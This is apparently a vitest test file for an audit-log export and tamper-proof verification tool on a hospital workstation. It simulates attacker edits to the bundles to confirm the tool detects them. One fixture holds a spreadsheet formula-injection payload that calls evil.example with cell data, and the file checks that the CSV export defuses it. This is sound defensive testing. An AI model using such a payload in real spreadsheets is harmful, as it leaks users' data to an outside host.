// The compliance export: `enclave audit export` writes a self-contained bundle
// of the events matching a filter, and `enclave audit verify --bundle` proves
// it on any machine with nothing but the workstation's key id — every event
// there, unaltered and in order, the selection complete — and names the first
// fault of any tampering.
import { generateKeyPairSync, randomBytes } from 'node:crypto';
import { cpSync, existsSync, mkdirSync, readFileSync, readdirSync, statSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { v7 as uuidv7 } from 'uuid';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  AuditLog,
  AuditRecordSchema,
  canonicalJson,
  ensureEnrolmentKey,
  exportAuditBundle,
  exportAuditedBundle,
  keyIdOf,
  matchesAuditFilter,
  MerkleFrontier,
  pruneSealedEvents,
  searchAuditEvents,
  sealNextBatch,
  sealPending,
  type AuditEventInput,
  type AuditRecord,
  type BundleVerifyReport,
  type SealOptions,
} from '../support/audit-internals.js';
import { runCli } from '../../src/main/cli/index.js';
import { KEY_FILE } from '../../src/main/keys/index.js';
import { DATABASE_FILE, openStore, type Store } from '../../src/main/store/index.js';
import type { AuditFilter } from '../../src/shared/api.js';
import { tempDir } from '../support/temp.js';

const HOST_NAME = 'ward7-ws03';
const DAY = 86_400_000;
/** 2025-03-01T08:00:00Z: the first day of the test workstation's log. */
const START = Date.UTC(2025, 2, 1, 8);
const ALICE = 'alice@hospital.example';
const USERS = [ALICE, 'bob@hospital.example', 'Carol.Nurse@Hospital.Example'];
/** A reason that a spreadsheet would run as a formula; the CSV must defuse it. */
const FORMULA_REASON = '=HYPERLINK("http://evil.example/?"&A1,"click")';
const AWKWARD_SESSION = 'sess,"7"';

interface Lab {
  dataDir: string;
  hostId: string;
  keyId: string;
  store: Store;
  audit: AuditLog;
  seal: SealOptions;
  now: () => number;
  setTime: (ms: number) => void;
  remove: () => void;
}

function openLab(): Lab {
  const dir = tempDir('enclave-bundle-');
  const key = randomBytes(32);
  writeFileSync(join(dir.path, KEY_FILE), key.toString('hex') + '\n', { mode: 0o600 });
  const store = openStore({ path: join(dir.path, DATABASE_FILE), key });
  const hostId = uuidv7();
  store.setMeta('host.id', hostId);
  let time = START - 3_600_000;
  const now = () => time;
  const audit = new AuditLog({ store, hostId, hostName: HOST_NAME, serviceVersion: 'test', now });
  audit.record({ action: 'store.open', outcome: 'success' });
  const enrolment = ensureEnrolmentKey(store, audit, now);
  const seal: SealOptions = { maxEvents: 7, institution: 'St Example Hospital', hostId, hostName: HOST_NAME, now };
  return {
    dataDir: dir.path,
    hostId,
    keyId: enrolment.keyId,
    store,
    audit,
    seal,
    now,
    setTime: (ms) => {
      time = ms;
    },
    remove: () => {
      store.close();
      dir.remove();
    },
  };
}

/** One working day: a dozen events by three people between 08:00 and 14:00, sealed in batches of 7, and a heartbeat at night. */
function writeDay(lab: Lab, day: number): void {
  const base = START + day * DAY;
  const script: AuditEventInput[] = [];
  for (let i = 0; i < 12; i++) {
    const user = USERS[i % USERS.length]!;
    const who = { name: user, roles: ['clinician' as const], authMethod: 'ldap' };
    const kind = (i + day) % 4;
    if (kind === 0) script.push({ action: 'auth.login', outcome: 'success', user: who });
    else if (kind === 1)
      script.push({
        action: 'ai.prompt',
        outcome: 'success',
        user: who,
        sessionId: user === ALICE ? AWKWARD_SESSION : `s-${day}-${i}`,
        model: { id: 'note-summary' },
        prompt: { text: 'a'.repeat(120) },
      });
    else if (kind === 2) script.push({ action: 'auth.unlock', outcome: 'failure', reason: i % 3 === 0 ? FORMULA_REASON : 'bad_credentials', user: who });
    else script.push({ action: 'auth.logout', outcome: 'success', user: who });
  }
  script.forEach((event, i) => {
    lab.setTime(base + i * 30 * 60_000);
    lab.audit.record(event);
  });
  sealPending(lab.store, lab.seal);
  lab.setTime(base + 15 * 3_600_000);
  // Quiet evening: a heartbeat proves nothing happened.
  lab.store.transaction((db) => sealNextBatch(db, { ...lab.seal, heartbeat: true }));
}

interface CliRun {
  code: number;
  out: string;
  err: string;
}

async function cli(args: string[]): Promise<CliRun> {
  let out = '';
  let err = '';
  const code = await runCli(args, { out: (l) => (out += `${l}\n`), err: (l) => (err += `${l}\n`) });
  return { code, out, err };
}

async function verifyBundle(dir: string, keyIds: string[]): Promise<CliRun & { report: BundleVerifyReport }> {
  const run = await cli(['audit', 'verify', '--bundle', dir, ...keyIds.flatMap((k) => ['--key-id', k]), '--json']);
  return { ...run, report: JSON.parse(run.out) as BundleVerifyReport };
}

const readLines = (file: string) =>
  readFileSync(file, 'utf8')
    .split('\n')
    .filter((l) => l.length > 0);
const writeLines = (file: string, lines: string[]) => writeFileSync(file, lines.map((l) => `${l}\n`).join(''));

interface Header {
  filter: AuditFilter;
  anchor: { batch_seq: number | null; frontier: { size: number; nodes: [number, string][] } };
  coverage: { first_seq: number; last_seq: number; first_batch_seq: number; last_batch_seq: number; events: number; batches: number };
  closing_batch_seq?: number | null;
  selection: { count: number; event_ids: string[] };
}

/** The sealed events of the lab's database matching a filter, from the database itself. */
function expectedSelection(lab: Lab, filter: AuditFilter): AuditRecord[] {
  const sealedThrough = (lab.store.writer.prepare('SELECT max(tree_size) AS n FROM audit_batches').get() as { n: number }).n;
  return (lab.store.writer.prepare('SELECT record FROM audit_events WHERE seq <= ? ORDER BY seq').all(sealedThrough) as { record: string }[])
    .map((r) => AuditRecordSchema.parse(JSON.parse(r.record)))
    .filter((r) => matchesAuditFilter(r, filter));
}

interface ManifestLine {
  batch_seq: number;
  kind: string;
  event_count: number;
  tree_size: number;
}

/**
 * What someone holding the bundle can do to hide the end of the range: drop
 * the last `count` covered batches with their events (and their selection,
 * proofs and CSV rows), and make bundle.json agree. The manifest that then
 * ends manifests.jsonl is the first dropped batch's (the batch that really
 * follows what is left) or the original closing one.
 */
function dropTrailingBatches(
  dir: string,
  count: number,
  closing: 'first dropped' | 'original',
): { droppedIds: Set<string>; lastKept: ManifestLine; firstDropped: ManifestLine; newestKeptEvent: string } {
  const lines = readLines(join(dir, 'manifests.jsonl'));
  const covered = lines.slice(1, -1);
  const kept = covered.slice(0, -count);
  const dropped = covered.slice(-count);
  const droppedEvents = dropped.map((l) => (JSON.parse(l) as ManifestLine).event_count).reduce((a, b) => a + b, 0);
  const events = readLines(join(dir, 'events.jsonl'));
  const keptEvents = events.slice(0, events.length - droppedEvents);
  const droppedIds = new Set(events.slice(events.length - droppedEvents).map((l) => (JSON.parse(l) as AuditRecord).event.id));
  const lastKept = JSON.parse(kept.at(-1)!) as ManifestLine;
  const firstDropped = JSON.parse(dropped[0]!) as ManifestLine;
  writeLines(join(dir, 'manifests.jsonl'), [lines[0]!, ...kept, closing === 'first dropped' ? dropped[0]! : lines.at(-1)!]);
  writeLines(join(dir, 'events.jsonl'), keptEvents);
  const edited = JSON.parse(readFileSync(join(dir, 'bundle.json'), 'utf8')) as Header;
  edited.coverage = { ...edited.coverage, last_batch_seq: lastKept.batch_seq, last_seq: lastKept.tree_size, events: edited.coverage.events - droppedEvents, batches: edited.coverage.batches - count };
  edited.closing_batch_seq = closing === 'first dropped' ? firstDropped.batch_seq : edited.closing_batch_seq!;
  edited.selection.event_ids = edited.selection.event_ids.filter((id) => !droppedIds.has(id));
  edited.selection.count = edited.selection.event_ids.length;
  writeFileSync(join(dir, 'bundle.json'), JSON.stringify(edited, null, 2));
  writeLines(
    join(dir, 'proofs.jsonl'),
    readLines(join(dir, 'proofs.jsonl')).filter((l) => ![...droppedIds].some((id) => l.includes(id))),
  );
  const csv = readFileSync(join(dir, 'events.csv'), 'utf8');
  writeFileSync(
    join(dir, 'events.csv'),
    csv
      .split('\r\n')
      .filter((row) => ![...droppedIds].some((id) => row.includes(id)))
      .join('\r\n'),
  );
  return { droppedIds, lastKept, firstDropped, newestKeptEvent: (JSON.parse(keptEvents.at(-1)!) as AuditRecord)['@timestamp'] };
}

describe('enclave audit export and verify --bundle', () => {
  let lab: Lab;
  let work: ReturnType<typeof tempDir>;
  let bundle: string;
  let header: Header;
  let exportRun: CliRun;
  const filter: AuditFilter = { from: START + DAY - 8 * 3_600_000, to: START + 3 * DAY - 8 * 3_600_000 - 1, user: 'ALICE@Hospital.Example' };

  beforeAll(async () => {
    lab = openLab();
    for (let day = 0; day < 5; day++) writeDay(lab, day);
    // A few events left waiting: the export seals them itself.
    lab.setTime(START + 5 * DAY);
    lab.audit.record({ action: 'auth.login', outcome: 'success', user: { name: ALICE } });
    work = tempDir('enclave-bundle-out-');
    bundle = join(work.path, 'march');
    exportRun = await cli(['audit', 'export', '--data-dir', lab.dataDir, '--from', '2025-03-02', '--to', '2025-03-03', '--user', 'ALICE@Hospital.Example', '--out', bundle]);
    header = JSON.parse(readFileSync(join(bundle, 'bundle.json'), 'utf8')) as Header;
  });
  afterAll(() => {
    lab?.remove();
    work?.remove();
  });

  /** A copy of the exported bundle to tamper with. */
  function copyOfBundle(): string {
    const copy = join(work.path, `copy-${randomBytes(4).toString('hex')}`);
    cpSync(bundle, copy, { recursive: true });
    return copy;
  }

  /** The events.jsonl line (1-based) and record of the n-th selected event. */
  function selectedEvent(dir: string, n: number): { line: number; seq: number; text: string } {
    const lines = readLines(join(dir, 'events.jsonl'));
    const id = header.selection.event_ids[n]!;
    const index = lines.findIndex((l) => l.includes(`"id":"${id}"`));
    return { line: index + 1, seq: header.coverage.first_seq + index, text: lines[index]! };
  }

  it("exports exactly one user's events over a time range (any letter case), sealing what waited, and the bundle verifies with the workstation key", async () => {
    expect(exportRun.err).toBe('');
    expect(exportRun.code).toBe(0);
    const expected = expectedSelection(lab, filter);
    expect(expected.length).toBeGreaterThan(5);
    expect(exportRun.out).toContain(`${expected.length} events matched the filter.`);
    expect(exportRun.out).toMatch(/Sealed 1 batch of waiting events first/);
    expect(header.selection.event_ids).toEqual(expected.map((r) => r.event.id));
    expect(header.selection.count).toBe(expected.length);
    expect(expected.every((r) => r.user?.name === ALICE)).toBe(true);

    // Whole batches are covered, with the anchor before them, the evening heartbeats inside the range, and the closing batch after them.
    const manifests = readLines(join(bundle, 'manifests.jsonl')).map((l) => JSON.parse(l) as { batch_seq: number; kind: string; created: string; oldest: string | null });
    expect(manifests[0]!.batch_seq).toBe(header.anchor.batch_seq);
    // (Changed with the closing manifest: the covered ones are now all but the first and the last line.)
    const coveredManifests = manifests.slice(1, -1);
    expect(coveredManifests.map((m) => m.batch_seq)).toEqual(
      Array.from({ length: header.coverage.last_batch_seq - header.coverage.first_batch_seq + 1 }, (_, i) => header.coverage.first_batch_seq + i),
    );
    expect(coveredManifests.filter((m) => m.kind === 'heartbeat').map((m) => m.created)).toEqual(['2025-03-02T23:00:00.000Z', '2025-03-03T23:00:00.000Z']);
    // Here the anchor is the previous evening's heartbeat: the last batch before the range.
    expect(manifests[0]).toMatchObject({ kind: 'heartbeat', created: '2025-03-01T23:00:00.000Z' });
    // And the closing batch is the next morning's first: it already existed, so the export sealed no heartbeat for it; its events are not in the bundle.
    expect(header.closing_batch_seq).toBe(header.coverage.last_batch_seq + 1);
    expect(manifests.at(-1)).toMatchObject({ batch_seq: header.closing_batch_seq, kind: 'events', oldest: '2025-03-04T08:00:00.000Z' });
    expect(exportRun.out).toContain(`Signed batch ${header.closing_batch_seq} follows the range, so the bundle proves it complete from 2025-03-02T00:00:00.000Z to 2025-03-03T23:59:59.999Z.`);
    const events = readLines(join(bundle, 'events.jsonl'));
    expect(events).toHaveLength(header.coverage.events);
    expect(events.length).toBeGreaterThan(expected.length);
    expect(readLines(join(bundle, 'proofs.jsonl'))).toHaveLength(expected.length);
    expect(readdirSync(bundle).sort()).toEqual(['README.txt', 'bundle.json', 'events.csv', 'events.jsonl', 'keys.json', 'manifests.jsonl', 'proofs.jsonl']);
    if (process.platform !== 'win32') expect(statSync(join(bundle, 'events.jsonl')).mode & 0o077).toBe(0);
    expect(readFileSync(join(bundle, 'README.txt'), 'utf8')).toContain('enclave audit verify --bundle <this folder> --key-id <the workstation key id>');

    const verified = await cli(['audit', 'verify', '--bundle', bundle, '--key-id', lab.keyId]);
    expect(verified.err).toBe('');
    expect(verified.code).toBe(0);
    expect(verified.out).toContain(`events ${header.coverage.first_seq}–${header.coverage.last_seq}: valid`);
    expect(verified.out).toMatch(/audit bundle verified: \d+ events in \d+ signed batches/);
    expect(verified.out).toContain(`complete from 2025-03-02T00:00:00.000Z to 2025-03-03T23:59:59.999Z, closed by signed batch ${header.closing_batch_seq}`);

    // The export is itself audited, with the filter and what it selected.
    const exportEvent = lab.store.writer.prepare("SELECT record FROM audit_events WHERE action = 'audit.export'").get() as { record: string };
    const detail = (JSON.parse(exportEvent.record) as AuditRecord).enclave.detail!;
    expect(detail).toMatchObject({
      filter_from: '2025-03-02T00:00:00.000Z',
      filter_to: '2025-03-03T23:59:59.999Z',
      filter_user: 'ALICE@Hospital.Example',
      selected_events: expected.length,
      out_dir: bundle,
    });
    expect((JSON.parse(exportEvent.record) as AuditRecord).user).toMatchObject({ auth_method: 'os-account' });
  });

  it('writes events.csv for people: RFC 4180 quoting, a header, and formula cells defused', () => {
    const csv = readFileSync(join(bundle, 'events.csv'), 'utf8');
    expect(csv.startsWith('\uFEFFsequence,time,action,outcome,reason,user,roles,auth method,session,model,event id,event hash,batch\r\n')).toBe(true);
    const rows = csv
      .slice(1)
      .split('\r\n')
      .filter((r) => r.length > 0);
    expect(rows).toHaveLength(header.selection.count + 1);
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`);
    expect(csv).not.toMatch(/,=HYPERLINK/);
    expect(csv).toContain(`,"sess,""7""",`);
    const first = expectedSelection(lab, filter)[0]!;
    expect(rows[1]!.startsWith(`${first.event.sequence},${first['@timestamp']},${first.event.action},${first.event.outcome},`)).toBe(true);
    expect(rows[1]).toContain(`,${ALICE},clinician,ldap,`);
    expect(rows[1]).toContain(`,${first.event.id},${first.event.hash},`);
  });

  it('catches an edited event and names its sequence number and line', async () => {
    const copy = copyOfBundle();
    const target = selectedEvent(copy, 2);
    const lines = readLines(join(copy, 'events.jsonl'));
    const edited = target.text.includes('"outcome":"failure"') ? target.text.replace('"outcome":"failure"', '"outcome":"success"') : target.text.replace('"outcome":"success"', '"outcome":"failure"');
    expect(edited).not.toBe(target.text);
    lines[target.line - 1] = edited;
    writeLines(join(copy, 'events.jsonl'), lines);
    const { code, report } = await verifyBundle(copy, [lab.keyId]);
    expect(code).toBe(1);
    expect(report.firstFault).toMatchObject({ problem: 'modified', sequence: target.seq, file: 'events.jsonl', line: target.line });
    expect(report.eventRanges).toContainEqual({ first: target.seq, last: target.seq, status: 'modified' });
    // The damage stays local: the events around it still verify.
    expect(report.eventRanges).toContainEqual({ first: header.coverage.first_seq, last: target.seq - 1, status: 'valid' });
    expect(report.eventRanges).toContainEqual({ first: target.seq + 1, last: header.coverage.last_seq, status: 'valid' });
  });

  it('catches a dropped event', async () => {
    const copy = copyOfBundle();
    const target = selectedEvent(copy, 1);
    const lines = readLines(join(copy, 'events.jsonl'));
    lines.splice(target.line - 1, 1);
    writeLines(join(copy, 'events.jsonl'), lines);
    const { code, report, out } = await verifyBundle(copy, [lab.keyId]);
    expect(code, out).toBe(1);
    expect(report.firstFault).toMatchObject({ problem: 'missing', sequence: target.seq, file: 'events.jsonl', line: target.line });
    expect(report.eventRanges).toContainEqual({ first: target.seq, last: target.seq, status: 'missing' });
  });

  it('catches two events swapped', async () => {
    const copy = copyOfBundle();
    const target = selectedEvent(copy, 3);
    const lines = readLines(join(copy, 'events.jsonl'));
    const i = target.line - 1;
    [lines[i], lines[i + 1]] = [lines[i + 1]!, lines[i]!];
    writeLines(join(copy, 'events.jsonl'), lines);
    const { code, report } = await verifyBundle(copy, [lab.keyId]);
    expect(code).toBe(1);
    expect(report.firstFault).toMatchObject({ problem: 'reordered', sequence: target.seq, file: 'events.jsonl' });
    expect(report.eventRanges).toContainEqual({ first: target.seq, last: target.seq + 1, status: 'reordered' });
  });

  it('catches a changed manifest field: its signature no longer verifies', async () => {
    const copy = copyOfBundle();
    const lines = readLines(join(copy, 'manifests.jsonl'));
    const manifest = JSON.parse(lines[3]!) as { batch_seq: number; event_count: number; created: string };
    manifest.created = new Date(Date.parse(manifest.created) - 60_000).toISOString();
    lines[3] = canonicalJson(manifest);
    writeLines(join(copy, 'manifests.jsonl'), lines);
    const { code, report } = await verifyBundle(copy, [lab.keyId]);
    expect(code).toBe(1);
    expect(report.firstFault).toMatchObject({ problem: 'bad_signature', batchSeq: manifest.batch_seq, file: 'manifests.jsonl', line: 4 });
    expect(report.batchRanges).toContainEqual({ first: manifest.batch_seq, last: manifest.batch_seq, status: 'bad_signature' });
  });

  it("catches a manifest replaced by another batch's", async () => {
    const copy = copyOfBundle();
    const lines = readLines(join(copy, 'manifests.jsonl'));
    const replaced = (JSON.parse(lines[3]!) as { batch_seq: number }).batch_seq;
    lines[3] = lines[6]!;
    writeLines(join(copy, 'manifests.jsonl'), lines);
    const { code, report } = await verifyBundle(copy, [lab.keyId]);
    expect(code).toBe(1);
    expect(report.firstFault).toMatchObject({ problem: 'missing', batchSeq: replaced, file: 'manifests.jsonl', line: 4 });
    // The events it sealed are still proven by the next batch's signed root.
    expect(report.eventRanges).toEqual([{ first: header.coverage.first_seq, last: header.coverage.last_seq, status: 'valid' }]);
  });

  it('catches a dropped manifest', async () => {
    const copy = copyOfBundle();
    const lines = readLines(join(copy, 'manifests.jsonl'));
    const dropped = (JSON.parse(lines[2]!) as { batch_seq: number }).batch_seq;
    lines.splice(2, 1);
    writeLines(join(copy, 'manifests.jsonl'), lines);
    const { code, report } = await verifyBundle(copy, [lab.keyId]);
    expect(code).toBe(1);
    expect(report.firstFault).toMatchObject({ problem: 'missing', batchSeq: dropped, file: 'manifests.jsonl', line: 3 });
    expect(report.batchRanges).toContainEqual({ first: dropped, last: dropped, status: 'missing' });
  });

  it("refuses a key id other than the workstation's, naming the first batch and the key that signed it", async () => {
    const other = keyIdOf(generateKeyPairSync('ed25519').publicKey);
    const { code, report } = await verifyBundle(bundle, [other]);
    expect(code).toBe(1);
    expect(report.firstFault).toMatchObject({ problem: 'wrong_key', batchSeq: header.anchor.batch_seq, file: 'manifests.jsonl', line: 1 });
    expect(report.firstFault!.detail).toContain(`signed by key ${lab.keyId}, which is not an expected key id`);
    expect(report.eventRanges).toEqual([{ first: header.coverage.first_seq, last: header.coverage.last_seq, status: 'unverified' }]);
    const text = await cli(['audit', 'verify', '--bundle', bundle, '--key-id', other]);
    expect(text.out).toMatch(/first fault: batch \d+ wrong key \(manifests\.jsonl line 1\)/);
    expect(text.out).toContain('audit bundle NOT verified');
  });

  it('catches an altered inclusion proof', async () => {
    const copy = copyOfBundle();
    const lines = readLines(join(copy, 'proofs.jsonl'));
    const proof = JSON.parse(lines[1]!) as { seq: number; batch_seq: number; path: string[] };
    expect(proof.path.length).toBeGreaterThan(0);
    proof.path[0] = proof.path[0]!.replace(/^./, (c) => (c === '0' ? '1' : '0'));
    lines[1] = canonicalJson(proof);
    writeLines(join(copy, 'proofs.jsonl'), lines);
    const { code, report } = await verifyBundle(copy, [lab.keyId]);
    expect(code).toBe(1);
    expect(report.firstFault).toMatchObject({ problem: 'proof_invalid', sequence: proof.seq, batchSeq: proof.batch_seq, file: 'proofs.jsonl', line: 2 });
  });

  it('catches an incomplete export: a matching event left out of the selection (with its proof and CSV row)', async () => {
    const copy = copyOfBundle();
    const target = selectedEvent(copy, 4);
    const id = header.selection.event_ids[4]!;
    const bundleJson = JSON.parse(readFileSync(join(copy, 'bundle.json'), 'utf8')) as Header;
    bundleJson.selection.event_ids = bundleJson.selection.event_ids.filter((e) => e !== id);
    bundleJson.selection.count -= 1;
    writeFileSync(join(copy, 'bundle.json'), JSON.stringify(bundleJson, null, 2));
    writeLines(
      join(copy, 'proofs.jsonl'),
      readLines(join(copy, 'proofs.jsonl')).filter((l) => !l.includes(id)),
    );
    const csv = readFileSync(join(copy, 'events.csv'), 'utf8');
    writeFileSync(
      join(copy, 'events.csv'),
      csv
        .split('\r\n')
        .filter((row) => !row.includes(id))
        .join('\r\n'),
    );
    const { code, report } = await verifyBundle(copy, [lab.keyId]);
    expect(code).toBe(1);
    expect(report.firstFault).toMatchObject({ problem: 'selection_mismatch', sequence: target.seq, file: 'bundle.json' });
    expect(report.firstFault!.detail).toContain('the export is incomplete');
    expect(report.faultCount).toBe(1);
  });

  it('catches batches cut off the front of the coverage, even with the anchor frontier recomputed to match', async () => {
    const copy = copyOfBundle();
    const manifests = readLines(join(copy, 'manifests.jsonl'));
    const cut = JSON.parse(manifests[1]!) as { batch_seq: number; first_seq: number; last_seq: number };
    const events = readLines(join(copy, 'events.jsonl'));
    const count = cut.last_seq - cut.first_seq + 1;
    const dropped = events.slice(0, count).map((l) => JSON.parse(l) as AuditRecord);
    const droppedIds = new Set(dropped.map((r) => r.event.id));
    expect(header.selection.event_ids.some((id) => droppedIds.has(id))).toBe(true);
    // Everything an attacker holding the bundle can recompute: the frontier after the cut batch, the coverage, the selection.
    const edited = JSON.parse(readFileSync(join(copy, 'bundle.json'), 'utf8')) as Header;
    const frontier = MerkleFrontier.fromJSON(edited.anchor.frontier);
    for (const record of dropped) frontier.append(Buffer.from(record.event.hash, 'hex'));
    edited.anchor = { batch_seq: cut.batch_seq, frontier: frontier.toJSON() };
    edited.coverage = { ...edited.coverage, first_batch_seq: cut.batch_seq + 1, first_seq: cut.last_seq + 1, events: edited.coverage.events - count, batches: edited.coverage.batches - 1 };
    edited.selection.event_ids = edited.selection.event_ids.filter((id) => !droppedIds.has(id));
    edited.selection.count = edited.selection.event_ids.length;
    writeFileSync(join(copy, 'bundle.json'), JSON.stringify(edited, null, 2));
    writeLines(join(copy, 'manifests.jsonl'), manifests.slice(1));
    writeLines(join(copy, 'events.jsonl'), events.slice(count));
    writeLines(
      join(copy, 'proofs.jsonl'),
      readLines(join(copy, 'proofs.jsonl')).filter((l) => ![...droppedIds].some((id) => l.includes(id))),
    );
    const csv = readFileSync(join(copy, 'events.csv'), 'utf8');
    writeFileSync(
      join(copy, 'events.csv'),
      csv
        .split('\r\n')
        .filter((row) => ![...droppedIds].some((id) => row.includes(id)))
        .join('\r\n'),
    );
    const { code, report } = await verifyBundle(copy, [lab.keyId]);
    expect(code).toBe(1);
    expect(report.firstFault).toMatchObject({ problem: 'selection_mismatch', batchSeq: cut.batch_seq, file: 'manifests.jsonl', line: 1 });
    expect(report.firstFault!.detail).toContain("inside the filter's time range");
    expect(report.faultCount).toBe(1);
  });

  it('searches newest first, a page at a time, matching exactly as the export does', () => {
    const rows = lab.store.writer.prepare('SELECT seq, record FROM audit_events ORDER BY seq DESC').all() as { seq: number; record: string }[];
    const all = rows.map((r) => AuditRecordSchema.parse(JSON.parse(r.record)));
    const collect = (search: Parameters<typeof searchAuditEvents>[1]) => {
      const pages = [];
      for (let page = searchAuditEvents(lab.store.reader, search); ; page = searchAuditEvents(lab.store.reader, { ...search, beforeSequence: page.nextBeforeSequence! })) {
        pages.push(page);
        if (page.nextBeforeSequence === null) break;
      }
      return pages;
    };
    for (const search of [{ ...filter, limit: 4 }, { user: 'BOB@hospital.example', action: 'auth.unlock', outcome: 'failure' as const, limit: 3 }, { limit: 25 }]) {
      const expected = all.filter((r) => matchesAuditFilter(r, search));
      const pages = collect(search);
      expect(pages.every((p) => p.total === expected.length && p.events.length <= search.limit)).toBe(true);
      expect(pages.flatMap((p) => p.events.map((e) => e.sequence))).toEqual(expected.map((r) => r.event.sequence));
    }
    const [newest] = searchAuditEvents(lab.store.reader, { limit: 1 }).events;
    // The newest event (the export's own audit record) waits to be sealed; sealed ones name their batch.
    expect(newest).toMatchObject({ action: 'audit.export', batchSeq: null, authMethod: 'os-account' });
    const alice = searchAuditEvents(lab.store.reader, { ...filter, limit: 1 }).events[0]!;
    expect(alice.user).toBe(ALICE);
    expect(alice.batchSeq).toBe(
      (lab.store.writer.prepare('SELECT batch_seq FROM audit_batches WHERE first_seq <= ? AND last_seq >= ?').get(alice.sequence, alice.sequence) as { batch_seq: number }).batch_seq,
    );
    expect(JSON.parse(alice.record)).toMatchObject({ event: { sequence: alice.sequence } });
  });

  it('catches trailing batches cut off the end, with their events and bundle.json edited to match: the batch that follows is inside the range', async () => {
    // The last day of the range (two events batches and the evening heartbeat), dropped; its first batch's manifest now closes the bundle.
    const copy = copyOfBundle();
    const { droppedIds, firstDropped, newestKeptEvent } = dropTrailingBatches(copy, 3, 'first dropped');
    expect(header.selection.event_ids.some((id) => droppedIds.has(id))).toBe(true);
    const { code, report } = await verifyBundle(copy, [lab.keyId]);
    expect(code).toBe(1);
    expect(report.firstFault).toMatchObject({ problem: 'selection_mismatch', batchSeq: firstDropped.batch_seq, file: 'manifests.jsonl' });
    expect(report.firstFault!.detail).toContain(`the bundle does not prove its range is complete after ${newestKeptEvent}`);
    expect(report.firstFault!.detail).toContain('inside the range');
    expect(report.faultCount).toBe(1);
    expect(report.provenRange).toBeNull();
    expect(report.batchRanges).toContainEqual({ first: firstDropped.batch_seq, last: firstDropped.batch_seq, status: 'inside_range' });
    // The rest verifies: every remaining event and batch is valid, only the end is not proven.
    expect(report.eventRanges.every((r) => r.status === 'valid')).toBe(true);

    // Only the evening heartbeat dropped: it was sealed inside the range, so it cannot close it either.
    const heartbeatCut = copyOfBundle();
    const cut = dropTrailingBatches(heartbeatCut, 1, 'first dropped');
    expect(cut.firstDropped.kind).toBe('heartbeat');
    const second = await verifyBundle(heartbeatCut, [lab.keyId]);
    expect(second.code).toBe(1);
    expect(second.report.firstFault).toMatchObject({ problem: 'selection_mismatch', batchSeq: cut.firstDropped.batch_seq });
    expect(second.report.firstFault!.detail).toContain('heartbeat sealed at 2025-03-03T23:00:00.000Z, inside the range');
    expect(second.report.faultCount).toBe(1);
  });

  it('catches trailing batches cut off the end with the original closing manifest kept: the batch that follows the range is missing', async () => {
    const copy = copyOfBundle();
    const { lastKept, firstDropped, newestKeptEvent } = dropTrailingBatches(copy, 3, 'original');
    const { code, report, out } = await verifyBundle(copy, [lab.keyId]);
    expect(code, out).toBe(1);
    expect(report.firstFault).toMatchObject({ problem: 'missing', batchSeq: firstDropped.batch_seq, file: 'manifests.jsonl' });
    expect(report.firstFault!.detail).toBe(
      `the bundle does not prove its range is complete after ${newestKeptEvent}: the signed batch that follows the range is missing: manifests.jsonl closes with batch ${header.closing_batch_seq}, but the batch after batch ${lastKept.batch_seq} is batch ${firstDropped.batch_seq}`,
    );
    expect(report.faultCount).toBe(1);
    const text = await cli(['audit', 'verify', '--bundle', copy, '--key-id', lab.keyId]);
    expect(text.out).toContain('the signed batch that follows the range is missing');
    expect(text.out).toContain('audit bundle NOT verified');
  });

  it('catches the closing manifest removed, whether or not bundle.json still names it', async () => {
    const newest = (JSON.parse(readLines(join(bundle, 'events.jsonl')).at(-1)!) as AuditRecord)['@timestamp'];
    const copy = copyOfBundle();
    writeLines(join(copy, 'manifests.jsonl'), readLines(join(copy, 'manifests.jsonl')).slice(0, -1));
    const { code, report } = await verifyBundle(copy, [lab.keyId]);
    expect(code).toBe(1);
    expect(report.firstFault).toMatchObject({ problem: 'missing', batchSeq: header.closing_batch_seq, file: 'manifests.jsonl', line: null });
    expect(report.firstFault!.detail).toBe(
      `the bundle does not prove its range is complete after ${newest}: the signed batch that follows the range is missing: bundle.json names batch ${header.closing_batch_seq}, but manifests.jsonl does not end with its manifest`,
    );
    expect(report.faultCount).toBe(1);

    const unnamed = copyOfBundle();
    writeLines(join(unnamed, 'manifests.jsonl'), readLines(join(unnamed, 'manifests.jsonl')).slice(0, -1));
    const edited = JSON.parse(readFileSync(join(unnamed, 'bundle.json'), 'utf8')) as Header;
    delete edited.closing_batch_seq;
    writeFileSync(join(unnamed, 'bundle.json'), JSON.stringify(edited, null, 2));
    const second = await verifyBundle(unnamed, [lab.keyId]);
    expect(second.code).toBe(1);
    expect(second.report.firstFault).toMatchObject({ problem: 'missing', batchSeq: header.closing_batch_seq });
    expect(second.report.firstFault!.detail).toContain('the signed batch that follows the range is missing: bundle.json names no closing batch');
    expect(second.report.faultCount).toBe(1);
  });

  it('catches a filter whose range was stretched past the closing batch: that batch holds events inside it, which the bundle lacks', async () => {
    const copy = copyOfBundle();
    const edited = JSON.parse(readFileSync(join(copy, 'bundle.json'), 'utf8')) as Header;
    // The auditor asked through the 4th; the bundle says so, but covers only through the 3rd.
    edited.filter = { ...edited.filter, to: Date.parse('2025-03-04T12:00:00.000Z') };
    writeFileSync(join(copy, 'bundle.json'), JSON.stringify(edited, null, 2));
    const { code, report } = await verifyBundle(copy, [lab.keyId]);
    expect(code).toBe(1);
    expect(report.firstFault).toMatchObject({ problem: 'selection_mismatch', batchSeq: header.closing_batch_seq, file: 'manifests.jsonl' });
    expect(report.firstFault!.detail).toContain('the bundle does not prove its range is complete after');
    expect(report.firstFault!.detail).toContain('it holds events from 2025-03-04T08:00:00.000Z');
    expect(report.firstFault!.detail).toContain('inside the range (which ends 2025-03-04T12:00:00.000Z)');
    expect(report.faultCount).toBe(1);
  });

  it('catches events.csv that does not say what the events say', async () => {
    const copy = copyOfBundle();
    const csv = readFileSync(join(copy, 'events.csv'), 'utf8');
    const target = selectedEvent(copy, 0);
    const time = (JSON.parse(target.text) as AuditRecord)['@timestamp'];
    const backdated = csv.replace(`\r\n${target.seq},${time},`, `\r\n${target.seq},2024-01-01T00:00:00.000Z,`);
    expect(backdated).not.toBe(csv);
    writeFileSync(join(copy, 'events.csv'), backdated);
    const { code, report } = await verifyBundle(copy, [lab.keyId]);
    expect(code).toBe(1);
    expect(report.firstFault).toMatchObject({ problem: 'csv_mismatch', sequence: target.seq, file: 'events.csv', line: 2 });
  });

  it('usage errors exit 2: no --key-id, a key id that is not one, a non-empty --out, an impossible date, an unknown action', async () => {
    expect((await cli(['audit', 'verify', '--bundle', bundle])).code).toBe(2);
